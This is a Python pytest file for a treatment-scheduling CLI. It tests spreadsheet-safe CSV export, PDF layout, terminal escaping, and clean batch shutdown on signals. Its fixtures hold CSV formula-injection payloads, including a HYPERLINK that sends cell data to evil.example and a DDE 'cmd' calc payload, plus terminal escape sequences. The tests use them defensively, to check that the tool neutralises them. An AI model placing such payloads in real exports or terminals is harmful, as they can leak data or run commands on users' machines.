"""Issue 13's contract beyond the corpus: spreadsheet-safe CSV, the longest texts lay out,
nothing printed raw, and a batch stops on Ctrl-C or SIGTERM within a second."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from pypdf import PdfReader

from scheduler.cli import cli
from scheduler.core.text import printable

DATA = Path(__file__).parent / "data"
ROOT = Path(__file__).resolve().parent.parent

FORMULA_TEMPLATE = """id: formula
name: =HYPERLINK("http://evil.example/?"&A1,"click")
source: +SUM(1,1)
components:
  - kind: visit
    id: v
    name: "@SUM(A1:A9)"
    code: V
    dose: "-2+3+cmd|' /C calc'!A0"
    location: "\\tTab first"
    at: {day: 8}
"""


def test_show_csv_neutralises_formulas(tmp_path):
    path = tmp_path / "formula.yaml"
    path.write_text(FORMULA_TEMPLATE)
    result = CliRunner().invoke(cli, ["show", str(path), "--start", "2026-03-02", "--holidays",
                                      "none", "--tz", "UTC", "--csv",
                                      "--closed", "2026-03-09==1+1"])
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["component_name"] == "'@SUM(A1:A9)"
    assert row["dose"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["location"] == "'\tTab first"
    assert row["reason"] == "'=1+1"
    assert row["date"] == "2026-03-10" and row["plan_day"] == "9"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(("paper", "lang"), [("a4", "en"), ("letter", "zh"), ("a4", "en+zh")])
def test_every_text_at_its_maximum_lays_out(tmp_path, paper, lang):
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, [
        "generate", str(DATA / "templates" / "longest_texts.yaml"), "--start", "2026-01-05",
        "--holidays", "none", "--tz", "UTC", "--patient", "W" * 80, "--paper", paper,
        "--lang", lang, "--closed", "2026-01-06=" + "W" * 200, "--discreet", "-o", str(out)])
    assert result.exit_code == 0, result.output
    [pdf] = out.glob("*.pdf")
    assert len(PdfReader(pdf).pages) >= 1


def test_printable_escapes_what_a_terminal_would_run():
    assert printable("P\x1b[31m017\x07") == "P\\x1b[31m017\\x07"
    assert printable("a\u2028b\x9bc") == "a\\u2028b\\x9bc"
    assert printable("bad \udcff byte") == "bad \\xff byte"
    assert printable("tab\tkept\nline") == "tab\tkept\nline"
    assert printable("x" * 5000, limit=10) == "x" * 10 + "…"


# --- signals ----------------------------------------------------------------------------------


def _children(pid: int) -> set[int]:
    found = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat = Path(f"/proc/{entry}/stat").read_text()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
                found.add(int(entry))
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
@pytest.mark.parametrize(("how", "jobs"), [("sigint-to-group", 2), ("sigterm-to-main", 2),
                                           ("sigterm-to-main", 1)])
def test_batch_stops_within_a_second(tmp_path, how, jobs):
    rows = "".join(f"P{i:04d},stupp,2026-03-02,none,UTC\n" for i in range(3000))
    cohort = tmp_path / "cohort.csv"
    cohort.write_text("key,template,start,holidays,tz\n" + rows)
    out = tmp_path / "out"
    process = subprocess.Popen(
        [sys.executable, "-m", "scheduler", "batch", str(cohort), "-o", str(out), "--jobs", str(jobs),
         "--now", "2026-01-01T00:00:00Z"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(list(out.glob("*.pdf"))) < 4:
        time.sleep(0.05)
    workers = _children(process.pid)
    assert bool(workers) == (jobs > 1), "with --jobs 2 the batch runs on worker processes"
    sent = time.monotonic()
    if how == "sigint-to-group":  # what Ctrl-C in a terminal does
        os.killpg(process.pid, signal.SIGINT)
    else:
        process.send_signal(signal.SIGTERM)
    stdout, stderr = process.communicate(timeout=30)
    took = time.monotonic() - sent
    assert took < 1.0, f"took {took:.2f} s to stop"
    assert process.returncode == 2, stderr
    assert "Traceback" not in stderr
    assert "Error: stopped by" in stderr and "of 3000 rows" in stderr, stderr
    assert "rows: " in stdout
    time.sleep(0.2)
    assert not [pid for pid in workers if _alive(pid)], "workers outlived the batch"
    names = sorted(p.name for p in out.iterdir())
    assert not [n for n in names if n.startswith(".")], names  # no temporary files
    assert "report.csv" in names  # the rows finished, and those not run
    stems = {n.rsplit(".", 1)[0] for n in names if n != "report.csv"}
    for stem in stems:  # every row's files are complete: both, and readable
        assert (out / f"{stem}.ics").read_bytes().rstrip().endswith(b"END:VCALENDAR")
        assert (out / f"{stem}.pdf").read_bytes().rstrip().endswith(b"%%EOF")
    assert len(stems) < 3000
    with (out / "report.csv").open(newline="") as stream:
        report = list(csv.DictReader(stream))
    assert len(report) == 3000
    assert {r["key"][1:] for r in report if r["status"] == "ok"} == {s.split("_")[0][1:] for s in stems}
    not_run = [r["notes"] for r in report if r["status"] == "error"]
    assert len(not_run) == 3000 - len(stems)
    assert set(not_run) == {"not run: the batch was stopped by "
                            + ("Ctrl-C (SIGINT)" if how == "sigint-to-group" else "SIGTERM")}


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_worker_killed_with_sigkill_fails_rows_not_the_batch(tmp_path):
    rows = "".join(f"P{i:04d},stupp,2026-03-02,none,UTC\n" for i in range(400))
    cohort = tmp_path / "cohort.csv"
    cohort.write_text("key,template,start,holidays,tz\n" + rows)
    out = tmp_path / "out"
    process = subprocess.Popen(
        [sys.executable, "-m", "scheduler", "batch", str(cohort), "-o", str(out), "--jobs", "2",
         "--now", "2026-01-01T00:00:00Z"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and len(list(out.glob("*.pdf"))) < 4:
        time.sleep(0.05)
    os.kill(min(_children(process.pid)), signal.SIGKILL)
    stdout, stderr = process.communicate(timeout=120)
    assert process.returncode == 2
    assert "Traceback" not in stderr
    assert "the worker process ended" in stderr
    assert "400 rows: " in stdout
    names = [p.name for p in out.iterdir()]
    assert not [n for n in names if n.startswith(".")], names
    stems = {n.rsplit(".", 1)[0] for n in names if n != "report.csv"}
    assert all((out / f"{stem}.ics").is_file() and (out / f"{stem}.pdf").is_file() for stem in stems)


def test_a_label_stored_with_an_escape_sequence_is_never_printed_raw(tmp_path):
    """Labels are refused at the command line; one already in a registry (an older version,
    another tool) is shown escaped by `patient list` and `patient show`."""
    import dataclasses
    from datetime import UTC, date, datetime

    from scheduler.registry import opened
    from scheduler.services import patients
    from scheduler.services.options import PlanOptions

    db = tmp_path / "registry.sqlite"
    now = datetime(2026, 1, 1, tzinfo=UTC)
    stored = patients.prepare("P1", None, "stupp",
                              PlanOptions(start=date(2026, 3, 2), holidays="none", timezone="UTC"),
                              now, "tester").stored
    with opened(db, True) as registry:  # stored as another tool (or an older version) might have
        patients.register(registry, dataclasses.replace(stored, label="Ann\x1b]0;pwned\x07\x1b[2J"))
    for command in (["patient", "list"], ["patient", "show", "P1"]):
        result = CliRunner().invoke(cli, [*command, "--db", str(db)])
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert "Ann\\x1b]0;pwned\\x07\\x1b[2J" in result.output


def _variant(tmp_path: Path, name: str, change) -> Path:
    import yaml

    data = yaml.safe_load((ROOT / "templates" / f"{name}.yaml").read_text())
    change(data)
    path = tmp_path / f"{name}-variant.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True))
    return path


def _cross_44_weekly_cycles(data):  # found by the nightly fuzz run: a LayoutError
    data["components"][0]["cycles"] = 44


def _daily_open_ended_doses(data):  # 1,800 continuation dates on one line
    for component in data["components"]:
        if component.get("kind") == "cycles":
            component["cycle_days"] = 1
            for drug in component["drugs"]:
                drug["days"] = [1]
                drug.setdefault("cycles", 2)


def _183_day_runs_a_cycle(data):  # every other day of a 365-day cycle: long cycle lines
    for component in data["components"]:
        if component.get("kind") == "cycles":
            component["cycle_days"] = 365
            for drug in component["drugs"]:
                drug["days"] = ",".join(str(day) for day in range(1, 366, 2))


@pytest.mark.parametrize(("name", "change"), [("cross", _cross_44_weekly_cycles),
                                              ("nct06478355", _daily_open_ended_doses),
                                              ("stupp", _183_day_runs_a_cycle)])
def test_what_validate_accepts_the_pdf_lays_out(tmp_path, name, change):
    path = _variant(tmp_path, name, change)
    assert CliRunner().invoke(cli, ["validate", str(path)]).exit_code == 0
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["generate", str(path), "--start", "2026-03-02", "--holidays",
                                      "none", "--tz", "UTC", "--horizon", "5y", "--lang", "en+zh",
                                      "-o", str(out)])
    assert result.exit_code == 0, (result.output, result.exception)
    [pdf] = out.glob("*.pdf")
    assert len(PdfReader(pdf).pages) > 1


def test_versions_issued_before_clock_note_existed_are_not_all_changed():
    """A stored record without 'clock_note' (issued by an earlier version of the tool) is the
    same as one where it is empty: the first issue after an upgrade changes nothing."""
    from datetime import UTC, date, datetime

    from scheduler.core.expand import expand
    from scheduler.core.loader import resolve_template
    from scheduler.export.reissue import Entry, revise
    from scheduler.services.options import PlanOptions, request_for

    plan = expand(request_for(resolve_template("stupp")[0],
                              PlanOptions(start=date(2026, 3, 2), holidays="none", timezone="UTC"),
                              None).request)
    first = revise({}, plan, datetime(2026, 3, 1, tzinfo=UTC), False)
    older = {uid: Entry(e.sequence, e.stamp, e.cancelled,
                        {k: v for k, v in e.record.items() if k != "clock_note"}, e.discreet)
             for uid, e in first.entries.items()}
    again = revise(older, plan, datetime(2026, 4, 1, tzinfo=UTC), False)
    assert (again.changed, again.added, again.cancelled) == (frozenset(), frozenset(), frozenset())
